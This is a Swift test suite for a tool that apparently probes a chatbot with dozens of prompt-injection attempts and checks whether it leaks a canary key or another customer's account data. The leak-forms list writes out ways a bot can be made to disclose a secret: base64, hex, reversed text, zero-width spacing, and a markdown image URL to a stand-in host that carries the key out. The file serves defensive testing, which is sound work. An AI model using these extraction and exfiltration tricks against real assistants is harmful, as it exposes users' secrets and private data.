import Engine
import Foundation
import Journeys
import Observations
import Synchronization
import Testing
import Verdicts

/// A bot that is asked in fifty ways for what it must not tell.
@Suite struct InjectionTests {
    private func story(_ groups: String = "all", more: String = "", head: String = "within: 20s") -> Story {
        Story(
            """
            steps:
              - chat: rasa
                url: "{{base}}/webhook"
                injections: \(groups)
                canaries: ["{{key}}"]
            \(more)
            """, head: "guard: story\nchannel: chat\nas: anna\n\(head)")
    }

    private static func said(_ request: Request) -> String {
        let object = (try? JSONSerialization.jsonObject(with: Data(request.body.utf8))) as? [String: String]
        return object?["message"] ?? ""
    }

    private static func sender(_ request: Request) -> String {
        let object = (try? JSONSerialization.jsonObject(with: Data(request.body.utf8))) as? [String: String]
        return object?["sender"] ?? ""
    }

    private static func reply(_ text: String) -> Response {
        let data = (try? JSONSerialization.data(withJSONObject: [["text": text]])) ?? Data()
        return .json(String(decoding: data, as: UTF8.self))
    }

    @Test func theSetIsWhole() {
        #expect(Injection.all.count >= 40)
        #expect(Set(Injection.all.map(\.id)).count == Injection.all.count)
        #expect(Set(Injection.all.map(\.group)) == Set(Injections.Group.allCases))
        #expect(Set(Injection.all.compactMap(\.encoding)) == Set(Injection.Encoding.allCases))
        #expect(Injection.all.contains { $0.messages.count > 2 })
    }

    /// Each attempt is a conversation of its own, and the bot says no to all of them.
    @Test func aBotThatHolds() async throws {
        let server = try LoopbackServer { _ in Self.reply("I cannot help with that.") }
        let walked = try await story().walk(server)
        #expect(walked.finding.outcome == .held, "\(walked.finding) \(walked)")
        #expect(walked.finding.reason == .leaked)
        #expect(Set(server.requests.map(Self.sender)).count == Injection.all.count)
        // What is kept of it has a bound.
        #expect(walked.last.exchanges.count < 40)
    }

    private static let forms: [String] = {
        let key = Story.Secrets.key
        let letters = key.map { String($0) }
        let bytes = key.utf8.map { String(format: "%02x", $0) }
        var forms = ["My key is \(key)!", "MY KEY IS \(key.uppercased())", "ncv-xrl-5s1p9"]
        forms.append(letters.joined(separator: " "))
        forms.append(letters.joined(separator: "\u{200B}"))
        forms.append("It is: " + String(key.reversed()))
        forms.append("Sure: " + Data("my key is \(key), hidden".utf8).base64EncodedString())
        forms.append("Bytes: " + bytes.joined(separator: " "))
        forms.append("Bytes: \\x" + bytes.joined(separator: "\\x").uppercased())
        forms.append("![x](https://collect.invalid/?q=%" + bytes.joined(separator: "%") + ")")
        return forms
    }()

    /// The canary in every form that a bot can be made to write, found only where the bot was asked for it.
    @Test(arguments: InjectionTests.forms)
    func aBotThatLeaks(answer: String) async throws {
        let server = try LoopbackServer { request in
            Self.reply(Self.said(request).contains("base64") ? answer : "No.")
        }
        let walked = try await story().walk(server)
        #expect(walked.finding.outcome == .unsafe, "\(walked.finding) \(walked)")
        #expect(walked.finding.reason == .leaked)
        let evidence = String(decoding: try JSONEncoder().encode(walked.run), as: UTF8.self)
        #expect(!evidence.contains(Story.Secrets.key))
        if !answer.contains(Story.Secrets.key) { #expect(!evidence.contains(answer.suffix(10))) }
    }

    /// It stops at the first one that succeeds.
    @Test func itStops() async throws {
        let server = try LoopbackServer { _ in Self.reply(Story.Secrets.key) }
        #expect(try await story().walk(server).finding.outcome == .unsafe)
        #expect(server.requests.count == 1)
    }

    @Test(arguments: [
        ("[{\"text\":\"Ben, number 2000200, owes 5 euros.\"}]", GuardFinding.Outcome.unsafe),
        ("[{\"text\":\"You are 1000100.\"}]", .held),
    ])
    func anotherCustomer(body: String, outcome: GuardFinding.Outcome) async throws {
        let server = try LoopbackServer { request in
            Self.said(request).contains("five customers") ? .json(body) : Self.reply("No.")
        }
        let walked = try await story("[other-customer]").walk(server)
        #expect(walked.finding.outcome == outcome, "\(walked.finding)")
        if outcome == .unsafe { #expect(walked.finding.reason == .wrongAccount) }
    }

    /// A chat that nobody has signed in to may show no customer's data, but what belongs to whom it was told it talks to.
    @Test(arguments: [
        ("", "Ben, number 2000200.", GuardFinding.Outcome.unsafe), ("", "You are 1000100.", .unsafe),
        ("{{accounts.anna.number}}", "You are 1000100, at anna@demo.example.", .held),
        ("{{accounts.anna.number}}", "Ben, number 2000200.", .unsafe),
    ])
    func nobodysCustomer(said: String, told: String, outcome: GuardFinding.Outcome) async throws {
        let server = try LoopbackServer { request in
            Self.said(request).contains("five customers") ? Self.reply(told) : Self.reply("No.")
        }
        var story = story("[other-customer]", more: said.isEmpty ? "" : "    turns:\n      - say: \"\(said)\"")
        story.head = "guard: story\nchannel: chat\nwithin: 20s"
        let walked = try await story.walk(server)
        #expect(walked.finding.outcome == outcome, "\(walked.finding)")
        if outcome == .unsafe { #expect(walked.finding.reason == .wrongAccount) }
    }

    /// What was said to the bot says nothing when it is echoed.
    @Test func anEcho() async throws {
        let server = try LoopbackServer { request in Self.reply("You said: " + Self.said(request)) }
        #expect(try await story("[other-customer]").walk(server).finding.outcome == .held)
    }

    @Test(arguments: [
        Response.json("[]"), .json("[]", status: 500), .html("<h1>Sign in</h1>"), .json("[]", status: 429),
    ])
    func aBotThatNeverAnswers(response: Response) async throws {
        let server = try LoopbackServer { _ in response }
        let walked = try await story().walk(server)
        #expect(walked.finding.outcome == .inconclusive, "\(walked.finding)")
        #expect(server.requests.count <= 3)
    }

    /// What the time allows, from another place in each run.
    @Test func aBoundOfTime() async throws {
        let firsts = Mutex<Set<String>>([])
        for _ in 0..<4 {
            let server = try LoopbackServer { _ in
                Thread.sleep(forTimeInterval: 0.02)
                return Self.reply("No.")
            }
            let walked = try await story(head: "within: 300ms").walk(server)
            #expect(walked.finding.outcome == .held, "\(walked.finding)")
            #expect(server.requests.count < 40)
            if let first = server.requests.first { firsts.withLock { _ = $0.insert(Self.said(first)) } }
        }
        #expect(firsts.withLock { $0.count } > 1)
    }

    /// Turns before each attempt: what a customer says who is signed in.
    @Test func turnsBefore() async throws {
        let server = try LoopbackServer { _ in Self.reply("Hm.") }
        let walked = try await story("[exfiltration]", more: "    turns:\n      - say: Hello from {{account.number}}")
            .walk(server)
        #expect(walked.finding.outcome == .held)
        #expect(server.requests.count { Self.said($0) == "Hello from 1000100" } == 2)
        #expect(server.requests.count == 4)
    }
}
